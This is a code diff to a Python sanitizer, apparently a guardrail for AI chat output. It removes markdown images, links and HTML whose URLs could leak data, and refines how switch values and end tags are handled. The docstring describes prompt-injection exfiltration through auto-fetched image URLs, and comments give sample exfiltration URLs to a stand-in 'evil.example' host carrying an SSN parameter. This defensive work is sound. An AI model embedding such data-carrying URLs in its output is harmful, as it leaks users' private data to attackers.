@@ -4,7 +4,8 @@ A chat UI fetches a markdown image as soon as it shows it, so `![](https://evil.
 sends whatever an injected instruction put in the URL without a click. Images are kept only from
 allowed hosts; links keep their text but lose a URL that carries data (a long query, a value that
 is base64 or hex of readable text, a value under a name such as `ssn`, `token` or `data`, or
-personal data); raw HTML that fetches (`<img>`, `<iframe>`, `srcset`...) and data: URLs go too.
+personal data); raw HTML that fetches (`<img>`, `<iframe>`, `srcset`...) and data: URLs go too,
+an element with an end tag keeping its bare start tag (`<a>`, `<iframe>`) for that end tag.
 
 The text is read by a CommonMark parser (markdown-it-py), not by patterns, so every form a
 renderer understands is seen: inline, full reference (`![x][1]`), collapsed (`![x][]`) and
@@ -68,10 +69,20 @@ DATA_NAMES = frozenset(
         *("data", "payload", "exfil", "leak"),
     }
 )
+# A value under such a name that is a switch, not data (`?data=1`, `?token=false`): too little to
+# leak anything, and a link that keeps it stays a link.
+FLAG_VALUES = frozenset({"0", "1", "true", "false", "yes", "no", "on", "off"})
 _NAME_WORDS = re.compile(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])|\d+")
 # HTML attributes whose URL a browser fetches as soon as the element is shown (WHATWG HTML).
 _FETCHING_ATTRIBUTES = frozenset({"src", "srcset", "poster", "data", "background", "lowsrc", "dynsrc"})
 _LINKING_TAGS = frozenset({"a", "area"})
+# Elements without an end tag (WHATWG HTML, "void elements"; `image` is parsed as `img`). Any other
+# element that loses its URL is replaced by its bare start tag, so its end tag still has one to
+# close: `<a href="https://evil.example/?ssn=...">x</a>` becomes `<a>x</a>`, an anchor without a
+# link ("a placeholder for where a link might otherwise have been placed"), not `x</a>`.
+_VOID_ELEMENTS = frozenset(
+    {"area", "base", "br", "col", "embed", "hr", "image", "img", "input", "link", "meta", "source", "track", "wbr"}
+)
 
 
 def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
@@ -83,7 +94,8 @@ def _carries_data(url: str) -> bool:
     """Whether a URL's query or fragment carries data: a long one (LONG_QUERY characters or more),
     a value (or a bare `?<value>`) that is a long run of base64-like characters or decodes to
     text (`decodes_to_text`), a value under a name that announces data (`DATA_NAMES`: `?ssn=`,
-    `?token=`, `?data=`), or personal data the PII rail finds in the values."""
+    `?token=`, `?data=`) unless it is a switch (`FLAG_VALUES`: `?data=1`), or personal data the
+    PII rail finds in the values."""
     parts = _lenient_split(url)
     if parts is None:  # not even a lenient reading finds its query: data cannot be ruled out
         return True
@@ -97,7 +109,7 @@ def _carries_data(url: str) -> bool:
             raw_name, _, raw_value = pair.partition("=")
             # Unquoted, not unquote_plus: a `+` is a base64 letter as often as a space.
             name, value = unquote(raw_name), unquote(raw_value)
-            if value and announces_data(name):
+            if value and announces_data(name) and value.lower() not in FLAG_VALUES:
                 return True
             for candidate in (name, value):
                 if _DATA_LIKE.match(candidate) or decodes_to_text(candidate):
@@ -368,7 +380,7 @@ def _html_findings(item: _Seen, allowed: tuple[str, ...], locate: Any, findings:
     parser = _FetchingTags()
     parser.feed(item.raw)
     parser.close()
-    for raw, _tag, urls, fetches in parser.tags:
+    for raw, tag, urls, fetches in parser.tags:
         if fetches:
             unsafe = not urls or any(_unsafe_image(u, allowed) or not _host(u) for u in urls)
             kind, score = "html_image", 1.0
@@ -377,7 +389,8 @@ def _html_findings(item: _Seen, allowed: tuple[str, ...], locate: Any, findings:
             kind, score = "html_link", 0.9
         span = locate(raw, item.line) if unsafe and raw else None
         if span is not None:
-            findings.append(Finding(kind, *span, score, replacement=""))
+            bare = "" if tag in _VOID_ELEMENTS else f"<{tag}>"  # `/>` ends no HTML start tag
+            findings.append(Finding(kind, *span, score, replacement=bare))
 
 
 def unsettled(text: str) -> int:
